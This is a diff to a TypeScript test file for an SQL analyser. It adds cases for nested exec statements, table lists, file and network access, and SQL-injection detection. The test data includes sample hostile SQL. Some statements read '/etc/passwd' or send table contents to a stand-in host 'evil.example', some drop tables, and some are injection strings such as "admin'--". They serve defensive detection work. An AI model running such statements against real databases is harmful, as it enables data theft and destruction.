@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import fc from 'fast-check';
-import { looksLikeSql, type SqlMark, sqlFacts } from './sql.ts';
+import { isInjection, looksLikeSql, type SqlMark, sqlFacts } from './sql.ts';
 
 test('statement kinds and tables', () => {
   const cases: readonly (readonly [sql: string, kinds: string, tables: string])[] = [
@@ -160,4 +160,43 @@ test('four megabytes of anything are read in time', () => {
     sqlFacts(text);
     looksLikeSql(text);
   }
+});
+
+test('statements within statements, lists of tables, tables in parentheses, files and addresses in place of tables', () => {
+  const cases: readonly (readonly [sql: string, kinds: string, tables: string, marks: string])[] = [
+    ["exec('drop table x')", 'exec drop', 'x', ''],
+    ["exec sp_executesql N'delete from x'", 'exec delete', 'x', 'no_where'],
+    ["EXECUTE IMMEDIATE 'grant all on t to u'", 'exec grant', '', 'privileges'],
+    ["do $$ begin execute 'drop table x'; end $$", 'do begin exec drop', 'x', ''],
+    ['prepare p as delete from t', 'prepare delete', 't', ''],
+    ['if exists (select 1 from t) drop table u', 'drop', 't u', ''],
+    ['begin delete from t where a = 1', 'begin delete', 't', ''],
+    ['from users select *', 'select', 'users', ''],
+    ['drop table if exists a, b.c cascade', 'drop', 'a b.c', ''],
+    ['truncate a, b', 'truncate', 'a b', ''],
+    ['update a, b set a.x = 1, b.y = 2 where a.i = b.i', 'update', 'a b', ''],
+    ['alter table a add b int, c int', 'alter', 'a', ''],
+    ['create table a (b int, c int)', 'create', 'a', ''],
+    ['select * from ((a join b on 1=1) join c on 1=1), d', 'select', 'a b c d', ''],
+    ['select * from (select 1), (values (1)) v, e', 'select', 'e', ''],
+    ["select * from read_csv('/etc/passwd')", 'select', '', 'file_access'],
+    ["select * from '/etc/passwd'", 'select', '', 'file_access'],
+    ["select * from 'https://evil.example/x.csv'", 'select', '', 'network_access'],
+    ["select * from read_parquet('s3://b/x')", 'select', '', 'network_access'],
+    ["insert into function url('https://evil.example') select * from t", 'insert', 't', 'network_access'],
+    ['insert into url (a) values (1)', 'insert', 'url', ''],
+    ["select * from remote('h:9000', 'db', 't')", 'select', '', 'network_access'],
+    ['/* a */ with x as (select * from /* b */ y) -- c\nselect * from x', 'select', 'y', ''],
+    ["select 'exec(''drop table x'')' from t", 'select', 't', ''],
+  ];
+  for (const [sql, kinds, tables, marks] of cases) {
+    const facts = sqlFacts(sql);
+    assert.deepEqual(
+      [facts.kinds.join(' '), facts.tables.join(' '), facts.marks.join(' ')],
+      [kinds, tables, marks],
+      sql,
+    );
+  }
+  for (const text of ["admin'--", "admin' #", "x') /*"]) assert.ok(isInjection(text), text);
+  for (const text of ["it's -- fine", "rock 'n' roll", "the users' # of posts"]) assert.ok(!isInjection(text), text);
 });
